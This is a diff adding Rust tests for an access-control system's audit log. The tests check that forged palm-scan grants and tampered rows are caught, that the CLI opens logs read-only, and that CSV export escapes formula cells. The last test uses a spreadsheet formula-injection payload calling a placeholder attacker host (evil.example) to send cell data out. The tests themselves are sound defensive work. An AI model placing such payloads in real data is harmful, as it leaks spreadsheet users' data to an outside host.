@@ -184,6 +184,14 @@ fn store(path: &Path) -> SqliteStore {
     SqliteStore::open(path).unwrap()
 }
 
+/// The log opened as `palmgate audit` opens it (the writer's open reads every revision to
+/// rebuild the stream heads, and stops at one that is not a number).
+fn read_only(path: &Path) -> SqliteStore {
+    SqliteStore::open_read_only(path)
+        .unwrap()
+        .expect("an event log")
+}
+
 /// `(position, data)` of every DoorDecided row.
 fn decided_rows(db: &Path) -> Vec<(i64, String)> {
     let c = Connection::open(db).unwrap();
@@ -208,6 +216,11 @@ fn forge(db: &Path, position: i64, data: &str) {
         params![data, position],
     )
     .unwrap();
+    reseal(&c, position);
+}
+
+/// Recomputes the hash chain from `position` on, over the rows as they now stand.
+fn reseal(c: &Connection, position: i64) {
     let rows: Vec<StoredRow> = {
         let mut st = c
             .prepare(
@@ -612,4 +625,439 @@ async fn a_scan_decided_before_a_lockdown_cannot_land_after_it() {
     let report = audit::verify(&*store).unwrap();
     assert!(report.ok(), "{:?}", report.findings);
     drop(g.config);
+}
+
+/// Every finding of a verification, as `(position, problem)`.
+fn findings(db: &Path) -> Vec<(u64, String)> {
+    audit::verify(&store(db))
+        .unwrap()
+        .findings
+        .into_iter()
+        .map(|f| (f.position, f.problem))
+        .collect()
+}
+
+/// Rewrites each stored event's data with `f` (`None`: unchanged) and re-seals the chain.
+fn rewrite_all(db: &Path, f: impl Fn(&str, &mut Value) -> bool) {
+    let c = Connection::open(db).unwrap();
+    let rows: Vec<(i64, String, String)> = {
+        let mut st = c
+            .prepare("SELECT position, type, data FROM events ORDER BY position")
+            .unwrap();
+        st.query_map([], |r| Ok((r.get(0)?, r.get(1)?, r.get(2)?)))
+            .unwrap()
+            .map(Result::unwrap)
+            .collect()
+    };
+    for (pos, kind, data) in rows {
+        let mut v: Value = serde_json::from_str(&data).unwrap();
+        if f(&kind, &mut v) {
+            c.execute(
+                "UPDATE events SET data = ?1 WHERE position = ?2",
+                params![serde_json::to_string(&v).unwrap(), pos],
+            )
+            .unwrap();
+        }
+    }
+    reseal(&c, 1);
+}
+
+/// A stranger's `no_match` rewritten into a grant for alice, or for someone never enrolled,
+/// with the palm's similarity and judgement deleted so there is nothing to re-derive the match
+/// from, and the chain re-sealed: a subject without a similarity is only an upstream Pass
+/// API's, and this decision follows no upstream session's ending; and the log records a
+/// judgement on every capture since its first one.
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn a_forged_grant_stripped_of_its_palm_judgement_is_caught() {
+    for who in ["alice", "eve"] {
+        let log = make_log().await;
+        let rows = decided_rows(&log.db());
+        let alice: Value = serde_json::from_str(&rows[0].1).unwrap();
+        let (pos, data) = rows[2].clone();
+        let mut v: Value = serde_json::from_str(&data).unwrap();
+        assert_eq!(v["verdict"]["reason"], "no_match", "{v}");
+        v["subject"] = alice["subject"].clone();
+        v["subject"]["external_id"] = json!(who);
+        v["verdict"] = alice["verdict"].clone();
+        let o = v.as_object_mut().unwrap();
+        for k in ["similarity", "judged", "quality"] {
+            assert!(o.remove(k).is_some(), "{k}");
+        }
+        forge(&log.db(), pos, &serde_json::to_string(&v).unwrap());
+        let found = findings(&log.db());
+        assert!(
+            found.iter().all(|(p, _)| *p == pos as u64),
+            "{who}: {found:?}"
+        );
+        for what in ["no similarity", "capture judgement missing"] {
+            assert!(
+                found.iter().any(|(_, f)| f.contains(what)),
+                "{who}, {what}: {found:?}"
+            );
+        }
+    }
+}
+
+/// A session ending whose capture lost its judgement, or the capture itself, once the log
+/// records judgements: reported. A log that never recorded any (written before they were)
+/// still verifies clean.
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn a_session_ending_without_its_judgement_is_caught_but_old_logs_verify() {
+    // A door decision after the first judged capture (the enrolment's) without its own.
+    let log = make_log().await;
+    let (pos, _) = first_row(&log.db(), "SessionCompleted");
+    assert!(
+        pos < decided_rows(&log.db())[0].0,
+        "the enrolment ends before the scans"
+    );
+    let (dpos, ddata) = decided_rows(&log.db())[1].clone();
+    let mut v: Value = serde_json::from_str(&ddata).unwrap();
+    v.as_object_mut().unwrap().remove("judged");
+    v.as_object_mut().unwrap().remove("quality");
+    forge(&log.db(), dpos, &serde_json::to_string(&v).unwrap());
+    let found = findings(&log.db());
+    assert_eq!(found.len(), 1, "{found:?}");
+    assert_eq!(found[0].0, dpos as u64);
+    assert!(
+        found[0].1.contains("capture judgement missing"),
+        "{found:?}"
+    );
+
+    // A session ending after the first judgement: a second enrolment's completion.
+    let g = enrolled().await;
+    let sid = palmgate::core::SessionId::from_random([9; 16]);
+    let token = g.app.keys.session_token(sid);
+    g.app
+        .execute(palmgate::core::Command::CreateSession {
+            partner_id: g.partner,
+            session_id: sid,
+            token_hash: palmgate::app::secrets::hash_secret(&token),
+            kind: palmgate::core::SessionKind::Identify,
+            language: palmgate::core::Language::En,
+            enroll: None,
+            idempotency: None,
+            ttl: chrono::Duration::minutes(15),
+        })
+        .await
+        .unwrap();
+    g.app
+        .reader_message(
+            ReaderId("desk-1".into()),
+            Inbound::Capture(CaptureMsg {
+                capture_id: "identify-1".into(),
+                session: Some(token),
+                template: palmgate::synthetic::scan("alice", 128, 2),
+                quality: 0.9,
+                liveness: true,
+            }),
+        )
+        .await
+        .unwrap();
+    let db = g.dir.path().join("events.db");
+    drop(g.server);
+    drop(g.app);
+    let c = Connection::open(&db).unwrap();
+    let (pos, data): (i64, String) = c
+        .query_row(
+            "SELECT position, data FROM events WHERE type = 'SessionCompleted' \
+             ORDER BY position DESC LIMIT 1",
+            [],
+            |r| Ok((r.get(0)?, r.get(1)?)),
+        )
+        .unwrap();
+    assert!(findings(&db).is_empty(), "{:?}", findings(&db));
+    let mut v: Value = serde_json::from_str(&data).unwrap();
+    assert!(v["capture"]["judged"].is_object(), "{v}");
+    v["capture"].as_object_mut().unwrap().remove("judged");
+    forge(&db, pos, &serde_json::to_string(&v).unwrap());
+    let found = findings(&db);
+    assert_eq!(found.len(), 1, "{found:?}");
+    assert_eq!(found[0].0, pos as u64);
+    assert!(
+        found[0].1.contains("capture judgement missing"),
+        "{found:?}"
+    );
+    v.as_object_mut().unwrap().remove("capture");
+    forge(&db, pos, &serde_json::to_string(&v).unwrap());
+    let found = findings(&db);
+    assert_eq!(found.len(), 1, "{found:?}");
+    assert!(
+        found[0].1.contains("without the capture that ended it"),
+        "{found:?}"
+    );
+
+    // The same kind of log as written before judgements were recorded: none anywhere.
+    let log = make_log().await;
+    rewrite_all(&log.db(), |_, v| {
+        let o = v.as_object_mut().unwrap();
+        // A door's capture records its quality only with its judgement.
+        let mut changed = o.remove("judged").is_some() && o.remove("quality").is_some();
+        if let Some(c) = o.get_mut("capture").and_then(Value::as_object_mut) {
+            changed |= c.remove("judged").is_some();
+        }
+        changed
+    });
+    assert!(!decided_rows(&log.db())[0].1.contains("judged"));
+    let found = findings(&log.db());
+    assert!(found.is_empty(), "{found:?}");
+}
+
+/// A decision moved to another door (one its reader is not bound to), into another door's
+/// stream, or given a revision its stream never had: each caught, the chain re-sealed.
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn a_decision_at_the_wrong_door_stream_or_revision_is_caught() {
+    // lab-1 is bound to `lab`; alice's level has both doors, so the verdict stands.
+    let log = make_log().await;
+    let (pos, data) = decided_rows(&log.db())[1].clone();
+    let mut v: Value = serde_json::from_str(&data).unwrap();
+    assert_eq!(v["door"], "lab", "{v}");
+    v["door"] = json!("main");
+    forge(&log.db(), pos, &serde_json::to_string(&v).unwrap());
+    let found = findings(&log.db());
+    assert!(found.iter().all(|(p, _)| *p == pos as u64), "{found:?}");
+    assert!(
+        found
+            .iter()
+            .any(|(_, f)| f.contains("reader lab-1 is bound to door lab")),
+        "{found:?}"
+    );
+    assert!(
+        found
+            .iter()
+            .any(|(_, f)| f.contains("not the door's stream")),
+        "{found:?}"
+    );
+
+    // The lab decision filed in the main door's stream, with the revision that stream is at.
+    let log = make_log().await;
+    let (pos, _) = decided_rows(&log.db())[1].clone();
+    let c = Connection::open(log.db()).unwrap();
+    let main_rev: i64 = c
+        .query_row(
+            "SELECT max(revision) FROM events WHERE stream = 'door-main' AND position < ?1",
+            [pos],
+            |r| r.get(0),
+        )
+        .unwrap();
+    c.execute(
+        "UPDATE events SET stream = 'door-main', revision = ?1 WHERE position = ?2",
+        params![main_rev + 1, pos],
+    )
+    .unwrap();
+    reseal(&c, pos);
+    let found = findings(&log.db());
+    assert!(
+        found
+            .iter()
+            .any(|(p, f)| *p == pos as u64 && f.contains("not the door's stream door-lab")),
+        "{found:?}"
+    );
+
+    // A revision skipped.
+    let log = make_log().await;
+    let (pos, _) = decided_rows(&log.db())[3].clone();
+    let c = Connection::open(log.db()).unwrap();
+    c.execute(
+        "UPDATE events SET revision = revision + 5 WHERE position = ?1",
+        [pos],
+    )
+    .unwrap();
+    reseal(&c, pos);
+    let found = findings(&log.db());
+    assert_eq!(found[0].0, pos as u64, "{found:?}");
+    assert!(
+        found[0].1.contains("stream door-main: revision"),
+        "{found:?}"
+    );
+}
+
+/// Values of the wrong type in three rows (text that is not UTF-8, a revision that is not a
+/// number, a one-byte hash): each is a finding at its position, and verification reads on, so
+/// a forged grant after them is still caught — whatever the page size.
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn unreadable_rows_are_findings_and_hide_nothing_after_them() {
+    let log = make_log().await;
+    let rows = decided_rows(&log.db());
+    let alice: Value = serde_json::from_str(&rows[0].1).unwrap();
+    let (forged, data) = rows[4].clone();
+    let mut v: Value = serde_json::from_str(&data).unwrap();
+    assert_eq!(v["verdict"]["reason"], "no_match", "{v}");
+    v["subject"] = alice["subject"].clone();
+    v["verdict"] = alice["verdict"].clone();
+    forge(&log.db(), forged, &serde_json::to_string(&v).unwrap());
+    let c = Connection::open(log.db()).unwrap();
+    let (a, b, d) = (rows[0].0, rows[1].0, rows[3].0);
+    c.execute(
+        "UPDATE events SET data = CAST(X'7B80FF7D' AS TEXT) WHERE position = ?1",
+        [a],
+    )
+    .unwrap();
+    c.execute(
+        "UPDATE events SET revision = 'two' WHERE position = ?1",
+        [b],
+    )
+    .unwrap();
+    c.execute("UPDATE events SET hash = X'01' WHERE position = ?1", [d])
+        .unwrap();
+    drop(c);
+    let r = audit::verify(&read_only(&log.db())).unwrap();
+    let at: Vec<u64> = r.findings.iter().map(|f| f.position).collect();
+    assert_eq!(
+        at,
+        vec![a as u64, b as u64, d as u64, forged as u64],
+        "{:?}",
+        r.findings
+    );
+    for f in &r.findings[..3] {
+        assert!(f.problem.starts_with("unreadable row"), "{:?}", r.findings);
+    }
+    assert!(
+        r.findings[3].problem.contains("gives no match"),
+        "{:?}",
+        r.findings
+    );
+    for (page, threads) in [(1, 2), (2, 2), (3, 1), (4, 0), (1, 0)] {
+        let again = audit::verify_paged(&read_only(&log.db()), page, threads).unwrap();
+        assert_eq!(again.findings, r.findings, "page {page}, {threads} threads");
+        assert_eq!(again.events, r.events, "page {page}");
+    }
+}
+
+/// `audit` opens the file read-only: a file that is no event log (the key store, here) is
+/// refused as such and left exactly as it was, and verifying a real log changes no byte of it.
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn the_cli_reads_the_log_read_only_and_refuses_a_file_that_is_no_log() {
+    let log = make_log().await;
+    let bin = env!("CARGO_BIN_EXE_palmgate");
+    let keys = log.dir.path().join("keys.db");
+    assert!(keys.exists());
+    let before = std::fs::read(&keys).unwrap();
+    let out = std::process::Command::new(bin)
+        .args(["audit", "verify", "--config"])
+        .arg(&log.config)
+        .env("PALMGATE_STORE_PATH", &keys)
+        .output()
+        .unwrap();
+    assert_eq!(out.status.code(), Some(1));
+    let err = String::from_utf8_lossy(&out.stderr);
+    assert!(
+        err.contains(&format!("{} is not a palmgate event log", keys.display())),
+        "{err}"
+    );
+    assert!(String::from_utf8_lossy(&out.stdout).is_empty());
+    assert_eq!(
+        std::fs::read(&keys).unwrap(),
+        before,
+        "the key store changed"
+    );
+    let tables: Vec<String> = {
+        let c = Connection::open(&keys).unwrap();
+        let mut st = c
+            .prepare("SELECT name FROM sqlite_master WHERE type = 'table'")
+            .unwrap();
+        st.query_map([], |r| r.get(0))
+            .unwrap()
+            .map(Result::unwrap)
+            .collect()
+    };
+    assert!(!tables.iter().any(|t| t == "events"), "{tables:?}");
+    // Not SQLite at all.
+    let text = log.dir.path().join("notes.txt");
+    std::fs::write(
+        &text,
+        "not a database, just long enough to be read as one. ".repeat(20),
+    )
+    .unwrap();
+    let out = std::process::Command::new(bin)
+        .args(["audit", "export", "--config"])
+        .arg(&log.config)
+        .env("PALMGATE_STORE_PATH", &text)
+        .output()
+        .unwrap();
+    assert_eq!(out.status.code(), Some(1));
+    assert!(
+        String::from_utf8_lossy(&out.stderr).contains("is not a palmgate event log"),
+        "{}",
+        String::from_utf8_lossy(&out.stderr)
+    );
+    // The real log: verified, and not one byte of it written. (First the stopped server's
+    // last WAL checkpoint lands: the file is read until it stays the same.)
+    let db = log.db();
+    let mut before = std::fs::read(&db).unwrap();
+    for _ in 0..50 {
+        tokio::time::sleep(std::time::Duration::from_millis(100)).await;
+        let now = std::fs::read(&db).unwrap();
+        if now == before {
+            break;
+        }
+        before = now;
+    }
+    let out = std::process::Command::new(bin)
+        .args(["audit", "verify", "--config"])
+        .arg(&log.config)
+        .output()
+        .unwrap();
+    assert!(
+        out.status.success(),
+        "{}",
+        String::from_utf8_lossy(&out.stdout)
+    );
+    assert!(
+        String::from_utf8_lossy(&out.stdout).contains("6 door decisions re-derived"),
+        "{}",
+        String::from_utf8_lossy(&out.stdout)
+    );
+    assert_eq!(std::fs::read(&db).unwrap(), before, "the log changed");
+}
+
+/// A partner-chosen external_id that a spreadsheet would run as a formula lands in the CSV
+/// export as text: prefixed with `'` (then quoted as CSV asks). Numbers are left alone.
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn the_csv_export_neutralises_formula_cells() {
+    let log = make_log().await;
+    let rows = decided_rows(&log.db());
+    let c = Connection::open(log.db()).unwrap();
+    let set = |row: usize, key: &str, field: Option<&str>, to: &str| {
+        let mut v: Value = serde_json::from_str(&rows[row].1).unwrap();
+        match field {
+            Some(f) => v[key][f] = json!(to),
+            None => v[key] = json!(to),
+        }
+        c.execute(
+            "UPDATE events SET data = ?1 WHERE position = ?2",
+            params![serde_json::to_string(&v).unwrap(), rows[row].0],
+        )
+        .unwrap();
+    };
+    let hyperlink = r#"=HYPERLINK("http://evil.example/?"&A1,"click")"#;
+    set(0, "subject", Some("external_id"), hyperlink);
+    set(1, "subject", Some("external_id"), "+1+1");
+    set(2, "reader_id", None, "\tlobby");
+    set(3, "subject", Some("external_id"), "-2");
+    set(5, "subject", Some("external_id"), "@SUM(A1)");
+    drop(c);
+    let text = audit::export(&store(&log.db()), None, None, true).unwrap();
+    let lines: Vec<&str> = text.lines().collect();
+    assert_eq!(lines.len(), 7, "{text}");
+    assert!(
+        lines[1].contains(r#","'=HYPERLINK(""http://evil.example/?""&A1,""click"")","#),
+        "{}",
+        lines[1]
+    );
+    assert!(lines[2].contains(",'+1+1,"), "{}", lines[2]);
+    assert!(lines[3].contains(",'\tlobby,"), "{:?}", lines[3]);
+    assert!(lines[4].contains(",'-2,"), "{}", lines[4]);
+    assert!(lines[6].contains(",'@SUM(A1),"), "{}", lines[6]);
+    // The other cells as before: similarities and thresholds are numbers, never prefixed.
+    assert!(lines[1].ends_with(",0.8,true"), "{}", lines[1]);
+    assert_eq!(
+        text.matches(",'").count() + text.matches(",\"'").count(),
+        5,
+        "{text}"
+    );
+    assert!(
+        lines[3].contains(",-0."),
+        "a negative number stays one: {}",
+        lines[3]
+    );
 }
